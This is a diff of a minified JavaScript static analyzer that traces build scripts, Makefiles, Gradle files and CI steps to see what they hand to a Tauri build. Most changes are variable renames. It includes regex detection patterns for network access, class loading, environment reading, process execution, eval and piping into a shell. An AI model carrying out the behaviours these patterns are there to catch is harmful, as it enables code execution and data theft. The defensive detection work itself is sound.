+parseFile(file2);return parsed10?.ok?["preinstall","install"].map(name=>asString(pick(parsed10.value,"scripts",name))).some(Boolean):!1}var REACHING6=/\b(?:URL\s*\(|(?:openStream|openConnection|HttpClient|OkHttp\w*|\w*Socket|forName|loadClass|getDeclaredMethod|URLClassLoader|ScriptEngine\w*|GroovyShell|Eval|Base64)\b|System\.getenv\s*\(\s*\)|ant\.\w)|\\u0/,
 STARTS4=/\b(?:getRuntime|ProcessBuilder|commandLine|executable|javaexec|execute\s*\(\s*\)|exec\s*[({])|Runtime\b.*\bexec\b/,KNOWN=/https:\/\/(?:dl\.google\.com|maven\.google\.com|repo1?\.maven\.(?:apache\.)?org|plugins\.gradle\.org|services\.gradle\.org)\//g;
 function ownGradle(path,text3){const acts=[];let offset=0;for(const line of text3.split(/(?<=\r(?!\n)|\n)/)){const plain8=/^\s*\/\/(?!.*\\u)/.test(line)?"":line.
 replaceAll("'",'"').replace(KNOWN,""),isReaching2=REACHING6.test(plain8)||commandLineClass(textsIn(plain8))==="reaches",act=plain8.replace(/\s+/g," ").trim();isReaching2?
@@ -3960,10 +3977,10 @@ max(header.lastIndexOf(":"),0)).matchAll(/[ \t]([*+$]*)([A-Za-z_][\w-]*)(?:=(?:'
 test(kind)?args.slice(i2).join(" "):args[i2];return[name,own===void 0||own===""?single2??double??"":own]})}function maker({path},top2,target,body,variables,recipes,shell){
 const written6=[...variables].filter(([,text3])=>!/[$`]|\{\{/.test(text3)),computed3=[...variables.keys()].filter(name=>name==="TAURI_CONFIG"),environment2=new Map(
 [...computed3.map(name=>[name,[[UNKNOWN]]]),...written6.map(([name,text3])=>[name,[[text3]]])]),start={folders:/\.(?:mk|just)$|\bdebian\/rules$/.test(path)?withAncestors(
-folderOf(path)):[...new Set([folderOf(top2.path),folderOf(path)])],variables:environment2,args:[[]]},parts=body.map(({text:text3,line:line2})=>{const isVariable=!/^[ \t]/.
+folderOf(path)):[...new Set([folderOf(top2.path),folderOf(path)])],variables:environment2,args:[[]]},parts2=body.map(({text:text3,line:line2})=>{const isVariable=!/^[ \t]/.
 test(text3),recipe=text3.replace(/^[ \t]+[@+-]*/,""),command2=isVariable?asAssignment(text3,variables,recipes):inShell(shell,withoutCalls(filledIn(recipe,variables,
 recipes.reference),variables));return{script:scriptAt(command2,"posix",{path,line:line2,endLine:line2}),start}}),line=body.at(-1)?.line??1;return{key:`${top2.path}\
-#${target}`,name:`${recipes.program} ${target}`.trim(),at:{path,line,column:1,endLine:line},parts,ships:!1,isForTests:isNamedForTests(target)}}function asAssignment(text3,variables,{
+#${target}`,name:`${recipes.program} ${target}`.trim(),at:{path,line,column:1,endLine:line},parts:parts2,ships:!1,isForTests:isNamedForTests(target)}}function asAssignment(text3,variables,{
 variable:variable6,reference}){const[,name="",value=""]=variable6.exec(text3)??[],computed3=value.trim().replace(reference,(whole2,given2)=>variables.has(given2.
 trim())?filledIn(whole2,variables,reference):whole2).replace(/\$\(shell\s+/g,"$(").replace(/\$\(file\s*<\s*/g,"$(cat ");return computed3.includes('"')?`${name}=${computed3}`:
 `${name}="${computed3}"`}function isComputed2({text:text3},{variable:variable6}){return!/^[ \t]/.test(text3)&&/[$`]|\{\{/.test(variable6.exec(text3)?.[2]??"")}function variablesOf(lines2,{
@@ -3979,11 +3996,11 @@ LONGEST_CALL=1e5;function withoutCalls(command2,variables){return command2.repla
 ""))return whole2;const{words:words4,length}=heldBy(variables);return length>MOST_HELD?`eval ${UNKNOWN_WORDS}`:`tauri build ${UNKNOWN_WORDS} ${quoted2([given2,...words4])}`})}
 var MOST_HELD=2e4;function heldBy(variables){const known13=held.get(variables);if(known13!==void 0)return known13;const words4=[...variables].flat(),made2={words:words4,
 length:words4.join(" ").length};return held.set(variables,made2),made2}var held=new WeakMap,DEEPEST_REFERENCE=20,LONGEST_VARIABLE=1e4;function resolvedVariables(variables,{
-reference}){let found12=variables;for(let depth=0;depth<DEEPEST_REFERENCE;depth+=1){const before2=found12;if(found12=new Map([...before2].map(([name,text3])=>{const filled2=filledIn(
-text3,before2,reference);return[name,filled2.length>LONGEST_VARIABLE?text3:filled2]})),![...found12].some(([name,text3])=>text3!==before2.get(name)))break}return found12}
+reference}){let found12=variables;for(let depth=0;depth<DEEPEST_REFERENCE;depth+=1){const before3=found12;if(found12=new Map([...before3].map(([name,text3])=>{const filled2=filledIn(
+text3,before3,reference);return[name,filled2.length>LONGEST_VARIABLE?text3:filled2]})),![...found12].some(([name,text3])=>text3!==before3.get(name)))break}return found12}
 function startedRecipes(ran,files){const call2=recipeCall(ran.words),file2=call2&&fileOf(call2,ran.folders,files);if(call2===void 0||file2===void 0)return[];const variables=new Map(
 [...call2.program==="make"?written(ran):[],...call2.variables]),makers=makersOfRecipes(file2,files,{variables,args:call2.args});return chosen(makers,call2,file2).
-flatMap(({parts})=>parts.map(({script,start})=>({script,start:{...start,variables:new Map([...ran.variables,...start.variables])}})))}var NAMES_FILE=/^(?:-f|--file|--makefile|--justfile)$/,
+flatMap(({parts:parts2})=>parts2.map(({script,start})=>({script,start:{...start,variables:new Map([...ran.variables,...start.variables])}})))}var NAMES_FILE=/^(?:-f|--file|--makefile|--justfile)$/,
 NAMES_FOLDER2=/^(?:-C|--directory|--working-directory|-d)$/;function recipeCall(all){const at2=all.findIndex(word2=>/^(?:.*\/)?(?:g?make|just)$/.test(word2));if(at2<
 0)return;const program2=all[at2]?.endsWith("just")===!0?"just":"make",words4=all.slice(at2+1),behind2=flag=>words4.find((_3,i2)=>flag.test(words4[i2-1]??"")),given2=words4.
 flatMap(word2=>{const[,name,value]=/^([A-Za-z_]\w*)=(.*)$/s.exec(word2)??[];return name===void 0||value===void 0?[]:[[name,value]]}),isOperand=(word2,i2)=>!/^-|^[A-Za-z_]\w*=/.
@@ -3995,7 +4012,7 @@ some(recipe=>key3===`${path}#${recipe}`))}function written({variables}){return[.
 e"]};function fileOf({program:program2,file:file2,folder},folders,files){const inside=(folders??[""]).flatMap(each=>resolved(each,folder)??[]),usual=inside.flatMap(
 each=>USUAL2[program2].map(name=>inFolder(each,name)));return(file2===null?usual:pathsIn(file2,inside)).flatMap(path=>files.get(path)??[]).find(({path})=>file2!==
 null||isJustfile(path)||isMakefile(path))}var SHELL3=/^(?:.*[\\/])?(?:ba|da|z|k)?sh(?:\.exe)?$/,RUNS_SCRIPTS=/^(?:.*[\\/])?(?:run-s|run-p|npm-run-all2?|run-script-os)$/;
-function commandLineAt(words4,i2){const[word2="",before2=""]=[words4[i2],words4[i2-1]];return/^-[a-zA-Z]*c$/.test(before2)&&words4.slice(0,i2).some(each=>SHELL3.
+function commandLineAt(words4,i2){const[word2="",before3=""]=[words4[i2],words4[i2-1]];return/^-[a-zA-Z]*c$/.test(before3)&&words4.slice(0,i2).some(each=>SHELL3.
 test(each))?{text:word2,name:words4[i2+1]??null,args:words4.slice(i2+2)}:{text:words4.slice(0,i2).some(each=>RUNS_SCRIPTS.test(each))?`npm run ${word2}`:word2.replace(
 /^(?:npm|pnpm|yarn|bun):(?=\S)/,"npm run "),name:null,args:[]}}function startedProcess([program2="",...words4]){if(!/^(?:start-process|saps|start)$/i.test(program2))
 return;const behind2=flag=>{const at2=words4.findIndex(word2=>flag.test(word2));return at2<0?void 0:words4[at2+1]},operands=words4.filter((word2,i2)=>!word2.startsWith(
@@ -4042,8 +4059,8 @@ map(group2=>this.#functions.get(group2)).findLast(name=>name!==void 0)??null}#sc
 this.#functionOf(groups3))??new Map,outputOf:commands2=>commands2.length>2?[UNKNOWN]:outputsOf(commands2.map(({words:words4})=>valuesOfAll(words4,scope)[0]??[]),
 folders)};return scope}#assign({assignments,words:words4,groups:groups3}){const scope=this.#scope(groups3,this.#folders);for(const assignment of assignments)this.#add(
 heededName(assignment.name),this.#assigned(assignment,scope));for(const name of filledBy(words4).map(heededName))(this.#variables.has(name)||name==="TAURI_CONFI\
-G")&&this.#add(name,[[UNKNOWN]])}#assigned({name,words:words4,isList:isList2,adds},scope){const values=assignedValues(words4,isList2,scope),before2=this.#variables.
-get(name);return!adds||before2===void 0?values:before2.flatMap(old=>values.map(value=>isList2?[...old,...value]:[`${old[0]??""}${value[0]??""}`]))}#add(name,values){
+G")&&this.#add(name,[[UNKNOWN]])}#assigned({name,words:words4,isList:isList2,adds},scope){const values=assignedValues(words4,isList2,scope),before3=this.#variables.
+get(name);return!adds||before3===void 0?values:before3.flatMap(old=>values.map(value=>isList2?[...old,...value]:[`${old[0]??""}${value[0]??""}`]))}#add(name,values){
 const known13=this.#variables.get(name)??[];if(known13.length===1&&known13[0]?.[0]===UNKNOWN)return;const all=[...known13,...values],distinct7=[...new Map(all.map(
 value=>[JSON.stringify(value),value])).values()];this.#variables.set(name,distinct7.length>MOST_VALUES?[[UNKNOWN]]:distinct7)}#run(command2,offset,isPutIn=!1){if(!this.#budget.
 take())return;const folders=this.#enter(command2.groups),{source,groups:groups3}=command2;for(const inner of innerCommands(command2))this.#run({...inner,source,
@@ -4084,13 +4101,13 @@ call2=packageCall(words4);if(call2!==void 0)return scriptsCalled(call2,folders,r
 each)],variables:withSettings(each,variables,files),args:[call2.args]}}));const recipes=startedRecipes(ran,files);if(recipes.length>0)return recipes;const at2=words4.
 findIndex((_3,i2)=>scriptsStarted(ran,i2,files).length>0);return scriptsStarted(ran,at2,files).map(script=>({script,start:{folders,variables,args:[words4.slice(
 at2+1)]}}))}function withSettings({path},variables,files){const file2=files.get(path),settings3=file2===void 0?new Map:packageSettings(file2);return settings3.size===
-0?variables:new Map([...variables,...settings3])}function calledScript(called3,args,{path,line}){if(args.length===0)return packageScript(called3);const{text:text3,
-at:at2}={text:`${called3.text.value} "$@"`,at:called3.text.at};return{...scriptAt(text3,"posix",at2),path,lineAt:()=>line}}function packageScript({text:text3}){
+0?variables:new Map([...variables,...settings3])}function calledScript(called4,args,{path,line}){if(args.length===0)return packageScript(called4);const{text:text3,
+at:at2}={text:`${called4.text.value} "$@"`,at:called4.text.at};return{...scriptAt(text3,"posix",at2),path,lineAt:()=>line}}function packageScript({text:text3}){
 return scriptAt(text3.value,"posix",text3.at)}function scriptsStarted({words:words4,folders},i2,files){if(i2<0||!startsScript(words4,i2))return[];const byShell=SHELL4.
 test(words4[i2-1]??"")?"posix":void 0;return pathsIn(words4[i2]??"",folders).flatMap(path=>{const file2=files.get(path),dialect=file2&&(dialectOf(file2)??byShell);
 return file2===void 0||dialect===void 0?[]:[scriptOf(file2,dialect)]})}var SHELL4=/^(?:.*\/)?(?:(?:ba|da|z|k)?sh|source|\.)$/;function runnableOf(files){const manifests=[
 ...files.values()].filter(({path})=>isPackageManifest(path)),scripts2=Map.groupBy(manifests.flatMap(packageScripts),({name})=>name),named12=manifests.map(file2=>[
-nameOf3(file2),file2.path]),byName3=Map.groupBy(named12,([name])=>name??"");return{files,scripts:scripts2,packages:new Map([...byName3].map(([name,all])=>[name,
+nameOf3(file2),file2.path]),byName4=Map.groupBy(named12,([name])=>name??"");return{files,scripts:scripts2,packages:new Map([...byName4].map(([name,all])=>[name,
 all.map(([,path])=>path)]))}}function nameOf3(file2){const parsed10=parseFile(file2);return parsed10.ok?asString(member(parsed10.value,"name")):void 0}var NO_FLAGS2={
 features:[],allFeatures:null,noDefaultFeatures:null,debug:null,profile:null},MOST_COMMANDS=2e4,Budget=class{#left=MOST_COMMANDS;#isCut=!1;take(){return this.#left-=
 1,this.#left<0&&(this.#isCut=!0),this.#left>=0}leaveOut(){this.#isCut=!0}get isCut(){return this.#isCut}};function settingsOf2({layers,flags:flags2}){const named12=layers.
@@ -4108,12 +4125,12 @@ value};const[option2="",...rest2]=value.split("=");return{name:`${group2} ${opti
 "-v",...["target-cpu target-feature codegen-units lto embed-bitcode panic strip debuginfo split-debuginfo incremental rpath","symbol-mangling-version relocation\
 -model code-model force-frame-pointers force-unwind-tables control-flow-guard","instrument-coverage inline-threshold prefer-dynamic relro-level link-dead-code l\
 ink-self-contained dwarf-version","default-linker-libraries overflow-checks collapse-macro-debuginfo jump-tables no-redzone metadata save-temps"].flatMap(line=>line.
-split(" ").map(name=>`-C ${name}`)),"-Z threads","-Z share-generics"]),OF_TAURI=/^(?:dev|custom_protocol|desktop|mobile|debug_assertions|feature=.*)$/,PLAIN_CONDITION=/^[A-Za-z_]\w*(?:="[^"]*")?$/,
+split(" ").map(name=>`-C ${name}`)),"-Z threads","-Z share-generics"]),OF_TAURI2=/^(?:dev|custom_protocol|desktop|mobile|debug_assertions|feature=.*)$/,PLAIN_CONDITION=/^[A-Za-z_]\w*(?:="[^"]*")?$/,
 FOR_LINKER=[/^-(?:s|pie|no-pie|static(?:-pie|-libgcc|-libstdc\+\+)?|rdynamic|pthread|ObjC|dead_strip|ld_classic|headerpad_max_install_names)$/,/^-fuse-ld=(?:lld|mold|bfd|gold)$/,
 /^-Wl,(?:-z,[\w-]+(?:=\w+)?|-O\d|-s|-S|-x|-Bsymbolic[\w-]*|-dead_strip|-no_compact_unwind|-ld_classic|-headerpad_max_install_names)$/,/^-Wl,--(?:(?:no-)?as-needed|gc-sections|build-id|strip-all|strip-debug|icf|no-undefined|threads|hash-style|compress-debug-sections)(?:=\w+)?$/,
 /^-Wl,-rpath,(?:\$ORIGIN|@(?:executable|loader)_path)(?:\/[\w.]+)*$/,/^[/-](?:STACK|SUBSYSTEM|NODEFAULTLIB|DEBUG|OPT|INCREMENTAL|GUARD|DYNAMICBASE|NXCOMPAT|HIGHENTROPYVA|LARGEADDRESSAWARE|DELAYLOAD|IGNORE|WX|LTCG|Brepro|CETCOMPAT)(?::[\w.,-]+)?$/i,
 /^[/-]DEFAULTLIB:(?:lib)?(?:cmt|vcruntime|ucrt|msvcrt|oldnames)d?(?:\.lib)?$/i];function isHarmlessFlag({name,value}){switch(name){case"--cfg":return PLAIN_CONDITION.
-test(value)&&!OF_TAURI.test(value);case"-C opt-level":return value!=="0";case"-C linker-plugin-lto":return/^(?:|y|yes|on|true|n|no|off|false)$/.test(value);case"\
+test(value)&&!OF_TAURI2.test(value);case"-C opt-level":return value!=="0";case"-C linker-plugin-lto":return/^(?:|y|yes|on|true|n|no|off|false)$/.test(value);case"\
 -C link-arg":case"-C link-args":return value.split(/\s+/).every(word2=>FOR_LINKER.some(known13=>known13.test(word2)));default:return name==="-C debug-assertions"||
 HARMLESS.has(name)}}var FLAGS=/^(?:RUSTFLAGS|CARGO_ENCODED_RUSTFLAGS|CARGO_(?:BUILD|TARGET_\w+|PROFILE_\w+)_RUSTFLAGS)$/,COMPILER2=/^(?:CARGO_BUILD_)?RUSTC(?:_WRAPPER|_WORKSPACE_WRAPPER)?$/,
 CACHES=/^(?:|(?:.*[\\/])?(?:sccache|ccache|cachepot|kache|rustc|clippy-driver)(?:\.exe)?)$/,FOR_MACHINE=/^CARGO_TARGET_\w+_(?:LINKER|RUNNER)$/,BARE_NAME=/^[\w+.-]*$/,
@@ -4173,7 +4190,7 @@ if(CARGO_VALUES2.has(short2)&&word2.length>2)return{name:short2,value:word2.slic
 value}}var CLI=/^(?:.*[\\/])?(?:cargo-)?tauri(?:\.(?:js|exe|cmd|ps1))?$|^(?:npm:)?@tauri-apps\/cli(?:@[^/]*)?$/,CONFIG_FLAG=/^(?:--config|-[a-zA-Z]?c)(?:=|$)/;function tauriCalls(commands2){
 return commands2.flatMap(ran=>{if(ran.isFollowed)return[];const args=namedCall(ran.words);if(args!==void 0)return[{ran,args,isGuess:!1}];const guessed2=guessedCall(
 ran.words);return guessed2===void 0?[]:[{ran,args:guessed2,isGuess:!0}]})}function namedCall(words4){for(const[i2,word2]of words4.entries()){if(!CLI.test(word2))
-continue;const starter=words4.slice(0,i2).find(before2=>PUTS_IN.test(before2)),behind2=words4.slice(i2+1),args=tauriArguments(starter===void 0?behind2:behind2.map(
+continue;const starter=words4.slice(0,i2).find(before3=>PUTS_IN.test(before3)),behind2=words4.slice(i2+1),args=tauriArguments(starter===void 0?behind2:behind2.map(
 withPutIn)),isFed2=starter!==void 0&&!/find$|fd$/.test(starter);if(args!==void 0)return isFed2?{...args,isOpen:!0}:args}}var PUTS_IN=/^(?:.*\/)?(?:xargs|parallel|find|fd)$/;
 function withPutIn(word2){return word2.replaceAll("{}",UNKNOWN)}function guessedCall(words4){const flag=words4.findIndex(word2=>CONFIG_FLAG.test(word2)),[program2=""]=words4,
 task=words4.find((word2,i2)=>i2>0&&/^(?:build|dev|bundle)$/.test(word2))??"build";if(flag>=0)return tauriArguments([task,...words4.slice(flag)]);if(!(isKnown(program2)||
@@ -4195,12 +4212,12 @@ words4.some((word2,i2)=>isShellText(word2,words4[i2-1]??"",ran))?[{ran,why:"comm
 filter(word2=>!/^(?:sudo|env|exec|-E)$|^\w+=/.test(word2));return fedBy===null||PRINTS2.test(fedBy)||!(SHELL5.test(program2)||INTERPRETER.test(program2))?!1:others.
 some(word2=>word2==="-s"||word2==="-"||word2==="/dev/stdin")||others.every(word2=>word2.startsWith("-")&&!/^-[a-zA-Z]*[cepE]$/.test(word2))}function isEval({words:words4,
 source}){const at2=words4.findIndex(word2=>/^(?:eval|iex|Invoke-Expression)$/i.test(word2));return at2>=0&&at2<=1&&!words4.every(isKnown)&&!PRINTS_SETTINGS.test(
-source)}function isShellText(word2,before2,{words:words4}){return/^-[a-zA-Z]*c$/.test(before2)&&SHELL5.test(words4[words4.indexOf(before2)-1]??"")&&(word2.trimStart().
+source)}function isShellText(word2,before3,{words:words4}){return/^-[a-zA-Z]*c$/.test(before3)&&SHELL5.test(words4[words4.indexOf(before3)-1]??"")&&(word2.trimStart().
 startsWith(UNKNOWN)||word2.trimStart().startsWith(UNKNOWN_WORDS))}var BUILDS_NOTHING=/^["'`,\s[\]]*(?:icon|info|add|remove|plugin|signer|migrate|completions|permission|capability|inspect|help|(?:android|ios)["'`,\s]+init)\b/,
 CLI2=/(?<![\w\-./@#\\])(?:cargo-)?tauri(?:\.(?:js|exe|cmd))?(?![\w\-./])/g,VARIABLE2=/TAURI_(?:CONFIG|APP_PATH|FRONTEND_PATH|["'`])|\bRUSTFLAGS|CARGO_(?:PROFILE_|BUILD_(?!(?:TARGET|TARGET_DIR|JOBS)\b)|TARGET_(?!DIR\b)|ENCODED_)/,
 PLACE=/\bCARGO_(?:BUILD_TARGET(?:_DIR)?|TARGET_DIR)\b/g,ASKING2=/(?:\benv(?:iron)?(?:\.|\[["'`])|\b(?:getenv|var|var_os|get|fetch)\(["'`])$/,GIVEN=/^["'`]?\]?\s*(?:=(?!=)|(?:\|\||&&|\?\?)=)/;
-function setsPlace(text3){return[...text3.matchAll(PLACE)].some(({index,0:{length}})=>{const[before2,behind2]=[text3.slice(Math.max(0,index-40),index),text3.slice(
-index+length,index+length+12)];return!ASKING2.test(before2)||GIVEN.test(behind2)})}var HANDS_OVER=/--config\b|["'`\s]-c["'`\s]|--features\b|--all-features\b|--debug\b|--profile\b/,
+function setsPlace(text3){return[...text3.matchAll(PLACE)].some(({index,0:{length}})=>{const[before3,behind2]=[text3.slice(Math.max(0,index-40),index),text3.slice(
+index+length,index+length+12)];return!ASKING2.test(before3)||GIVEN.test(behind2)})}var HANDS_OVER=/--config\b|["'`\s]-c["'`\s]|--features\b|--all-features\b|--debug\b|--profile\b/,
 EXPORTS=/\bexportVariable\s*\(\s*(?!["'`](?!TAURI_|CARGO_|RUST)\w+["'`]\s*,)/i;function mayStartTauri(code2){if(code2.length>LONGEST_CODE)return/tauri/i.test(code2)||
 VARIABLE2.test(code2)||EXPORTS.test(code2)||setsPlace(code2);const text3=code2.split(`
 `).filter(line=>!/^\s*(?:\/\/|#(?!!)|\*|\/\*|--)/.test(line)).join(`
@@ -4294,25 +4311,26 @@ ith isn't known: ${parsed10.message}`;return[(0,import_shared_acegos.gapAt)(pars
 function handsSomethingOver(text3){return/TAURI_CONFIG/.test(text3)||/tauri/i.test(text3)&&/--config|\s-[a-z]*c[\s=]|--features|\s-f\b|\bargs\s*:/.test(text3)}function tooManyCommands(app,on3){
 return(0,import_shared_acegos.gapIn)(app.config,{kind:"truncated",rests:(0,import_shared_acegos.wordsOf)(on3),message:"The scripts that may build the app run mo\
 re commands than are looked at: what they hand to Tauri isn't known."})}function dependenciesAmong(commands2){let known13;return(command2,isBuilt2=!1)=>{known13??=
-partsOf5(commands2);const parts=known13,taken4=new Set,own=[command2.source,...command2.from],needed2=new Set(own.every(isKnown)?[]:GIVES_TO_STEPS),seen=isBuilt2?
-seenVariables(own.flatMap(source=>parts.get(source)??[])):NONE,isIndirect=[...parts.keys()].some(source=>INDIRECT.test(source)),take=source=>{taken4.add(source);
-const needs=parts.get(source)?.needs??new Set;for(const name of own.includes(source)?needs.difference(seen):needs)needed2.add(name)};for(const source of own)take(
-source);for(let size=0;size<taken4.size;){size=taken4.size;for(const[source,{gives}]of parts)!taken4.has(source)&&(!needed2.isDisjointFrom(gives)||isIndirect&&gives.
-size>0)&&take(source)}const paths3=new Set([...taken4].flatMap(source=>[...parts.get(source)?.paths??[]]));return{sources:[...taken4].map(source=>parts.get(source)?.
-name??source).sort(),paths:[...paths3].sort()}}}function seenVariables(parts){const words4=parts.flatMap(({rans})=>rans.flatMap(ran=>ran.words)),unknown3=[...new Set(
-words4)].filter(word2=>!isKnown(word2)),isSeenIn=(name,{variables})=>{const values=variables.get(name)?.flat()??[];return values.length>0&&values.every(value=>isKnown(
-value)&&!isPartOf(value,unknown3))},isSeen=name=>parts.every(({needs,rans})=>!needs.has(name)||rans.every(ran=>isSeenIn(name,ran))),isCut=name=>parts.some(({name:text3})=>text3.
-includes(`%${name}:`));return new Set(parts.flatMap(({needs})=>[...needs]).filter(name=>isSeen(name)&&!isCut(name)))}function isPartOf(value,words4){const texts2=value.
-split(/\s+/);return words4.some(word2=>texts2.some(text3=>text3===""||word2.includes(text3)))}var NONE=new Set,INDIRECT=/\$\{!\w+\}|\b(?:declare|local|typeset)\s+-\w*n/,
-READS=/(?:^|[^<])<[ \t]*(["']?)([\w./\\-]{1,500})\1|\bin\s*\(([^()'`"]{1,500})\)/gi;function inputFiles(source){return[...source.matchAll(READS)].flatMap(([,,file2,
-files])=>file2??(files??"").split(/[\s,]+/))}var RUNS_CODE="runs code of the repository",GIVES_TO_STEPS=["GITHUB_OUTPUT","GITHUB_ENV","set-output","set-env",RUNS_CODE],
-INTERPRETERS=/^(?:node|bun|deno|tsx|ts-node|python3?|ruby|perl|php)$/,ONLY_NAMES=/^(?:dirname|basename|readlink|realpath|chmod)$/,CODE2=/\.(?:[cm]?[jt]s|py|rb|pl|php)$/,
-EVERYWHERE=new Set(["PWD","HOME","PATH","OS","CI","TAURI_CONFIG"]);function partsOf5(commands2){const bySource=Map.groupBy(commands2,({source})=>source),read11=new Set(
-commands2.map(({path})=>path));return new Map([...bySource].map(([source,rans])=>[source,partOf(rans,read11)]))}function partOf(rans,read11){const[{source=""}={}]=rans,
-paths3=new Set(rans.flatMap(({words:words4,folders,isFollowed})=>[...words4,...inputFiles(source)].flatMap(word2=>pathsIn(word2,folders)).filter(path=>!read11.has(
-path)||!(isFollowed||ONLY_NAMES.test(words4[0]??""))))),runsCode=rans.some(({words:words4})=>words4.some(word2=>INTERPRETERS.test(word2)))&&[...paths3].some(path=>CODE2.
-test(path)),files=source.match(/[\w-]{1,100}\.(?:json5?|toml)\b/g)??[],written6=source.match(/GITHUB_(?:OUTPUT|ENV)|set-(?:output|env)/g)??[],given2=rans.flatMap(
-({sets,words:words4})=>[...sets,...words4.flatMap(assigned)]);return{name:[withoutPlaces(source,rans,read11),...new Set(rans.flatMap(ran=>ran.inputs))].join(`
+partsOf5(commands2);const parts2=known13,taken4=new Set,own=[command2.source,...command2.from],needed2=new Set(own.every(isKnown)?[]:GIVES_TO_STEPS),seen=isBuilt2?
+seenVariables(own.flatMap(source=>parts2.get(source)??[])):NONE,isIndirect=[...parts2.keys()].some(source=>INDIRECT.test(source)),take=source=>{taken4.add(source);
+const needs=parts2.get(source)?.needs??new Set;for(const name of own.includes(source)?needs.difference(seen):needs)needed2.add(name)};for(const source of own)take(
+source);for(let size=0;size<taken4.size;){size=taken4.size;for(const[source,{gives}]of parts2)!taken4.has(source)&&(!needed2.isDisjointFrom(gives)||isIndirect&&
+gives.size>0)&&take(source)}const paths3=new Set([...taken4].flatMap(source=>[...parts2.get(source)?.paths??[]]));return{sources:[...taken4].map(source=>parts2.
+get(source)?.name??source).sort(),paths:[...paths3].sort()}}}function seenVariables(parts2){const words4=parts2.flatMap(({rans})=>rans.flatMap(ran=>ran.words)),
+unknown3=[...new Set(words4)].filter(word2=>!isKnown(word2)),isSeenIn=(name,{variables})=>{const values=variables.get(name)?.flat()??[];return values.length>0&&
+values.every(value=>isKnown(value)&&!isPartOf(value,unknown3))},isSeen=name=>parts2.every(({needs,rans})=>!needs.has(name)||rans.every(ran=>isSeenIn(name,ran))),
+isCut=name=>parts2.some(({name:text3})=>text3.includes(`%${name}:`));return new Set(parts2.flatMap(({needs})=>[...needs]).filter(name=>isSeen(name)&&!isCut(name)))}
+function isPartOf(value,words4){const texts2=value.split(/\s+/);return words4.some(word2=>texts2.some(text3=>text3===""||word2.includes(text3)))}var NONE=new Set,
+INDIRECT=/\$\{!\w+\}|\b(?:declare|local|typeset)\s+-\w*n/,READS=/(?:^|[^<])<[ \t]*(["']?)([\w./\\-]{1,500})\1|\bin\s*\(([^()'`"]{1,500})\)/gi;function inputFiles(source){
+return[...source.matchAll(READS)].flatMap(([,,file2,files])=>file2??(files??"").split(/[\s,]+/))}var RUNS_CODE="runs code of the repository",GIVES_TO_STEPS=["GI\
+THUB_OUTPUT","GITHUB_ENV","set-output","set-env",RUNS_CODE],INTERPRETERS=/^(?:node|bun|deno|tsx|ts-node|python3?|ruby|perl|php)$/,ONLY_NAMES=/^(?:dirname|basename|readlink|realpath|chmod)$/,
+CODE2=/\.(?:[cm]?[jt]s|py|rb|pl|php)$/,EVERYWHERE=new Set(["PWD","HOME","PATH","OS","CI","TAURI_CONFIG"]);function partsOf5(commands2){const bySource=Map.groupBy(
+commands2,({source})=>source),read11=new Set(commands2.map(({path})=>path));return new Map([...bySource].map(([source,rans])=>[source,partOf(rans,read11)]))}function partOf(rans,read11){
+const[{source=""}={}]=rans,paths3=new Set(rans.flatMap(({words:words4,folders,isFollowed})=>[...words4,...inputFiles(source)].flatMap(word2=>pathsIn(word2,folders)).
+filter(path=>!read11.has(path)||!(isFollowed||ONLY_NAMES.test(words4[0]??""))))),runsCode=rans.some(({words:words4})=>words4.some(word2=>INTERPRETERS.test(word2)))&&
+[...paths3].some(path=>CODE2.test(path)),files=source.match(/[\w-]{1,100}\.(?:json5?|toml)\b/g)??[],written6=source.match(/GITHUB_(?:OUTPUT|ENV)|set-(?:output|env)/g)??
+[],given2=rans.flatMap(({sets,words:words4})=>[...sets,...words4.flatMap(assigned)]);return{name:[withoutPlaces(source,rans,read11),...new Set(rans.flatMap(ran=>ran.
+inputs))].join(`
 `),rans,gives:new Set([...given2,...files,...written6,...runsCode?[RUNS_CODE]:[]]),needs:new Set([...variablesIn2(source),...files]),paths:paths3}}function withoutPlaces(source,rans,read11){
 return rans.flatMap(({words:words4,folders,isFollowed})=>isFollowed?words4.filter(word2=>pathsIn(word2,folders).some(path=>read11.has(path))):[]).reduce((text3,word2)=>text3.
 replaceAll(word2,"<script>"),source)}function assigned(word2){return/^(?:([A-Za-z_]\w*)=|(%%\S)$)/.exec(word2)?.slice(1).filter(name=>name!==void 0)??[]}function variablesIn2(source){
@@ -4324,7 +4342,7 @@ value),isPath=asBoolean(key3("relative"))===!0,force=asBoolean(key3("force"))===
 map(([name,value])=>{const words4=asString(value)?.split(/\s+/)??stringsOf(value).map(word2=>word2.value),script=scriptAt(quoted2(["cargo",...words4]),"posix",value.
 at);return{key:`${file2.path}#${name}`,name:`cargo ${name}`,at:value.at,parts:[{script,start:{folders,variables:new Map,args:[[]]}}],ships:!1,isForTests:isNamedForTests(
 name)}})}function aliasesIn(settings3){return new Map(settings3.toReversed().flatMap(config=>membersOf2(member(config,"alias"))))}function actionArguments(text3){
-const[now,before2]=[withoutQuotes2(text3),onlyWholeQuotes(text3)];return JSON.stringify(now)===JSON.stringify(before2)?[now]:[now,before2]}function withoutQuotes2(text3){
+const[now,before3]=[withoutQuotes2(text3),onlyWholeQuotes(text3)];return JSON.stringify(now)===JSON.stringify(before3)?[now]:[now,before3]}function withoutQuotes2(text3){
 return(text3.match(/(?:'[^']*(?:'|$)|"[^"]*(?:"|$)|[^\s'"])+/g)??[]).map(token2=>token2.replace(/'([^']*)(?:'|$)|"([^"]*)(?:"|$)/g,"$1$2"))}function onlyWholeQuotes(text3){
 return[...text3.matchAll(/(?:[^\s'"]+(?:'[^']*'|"[^"]*")+)+[^\s'"]*|[^\s'"]+|'([^']*)'|"([^"]*)"/g)].map(([whole2,single2,double])=>single2??double??whole2)}var TOKEN=/\s+|'(?:[^']|'')*'|\|\||&&|[=!]=|[<>]=?|-?\d[\w.]*|[A-Za-z_][\w-]*(?:\.[\w*-]+|\['[^']*'\])*|./gs;
 function tokensOf2(expression){return(expression.match(TOKEN)??[]).filter(token2=>token2.trim()!=="").map(token2=>token2.replace(/\['([^']*)'\]/g,".$1"))}var LONGEST_EXPRESSION=2e3;
@@ -4366,9 +4384,9 @@ folders,variables,args:[[]]},computed3=[...computedIn(parsed10.value,0),...compu
 path)}, ${task}`,at:key3,parts:[...computed3,...scriptsIn2(body,0)].map(script=>({script,start})),ships:!0,isForTests:isNamedForTests(task)}}))}function spelledOut(text3){
 if(!text3.startsWith("["))return text3;const parsed10=parseJson({path:"",id:"",text:text3},"json");return parsed10.ok?quoted2(stringsOf(parsed10.value).map(({value})=>value)):
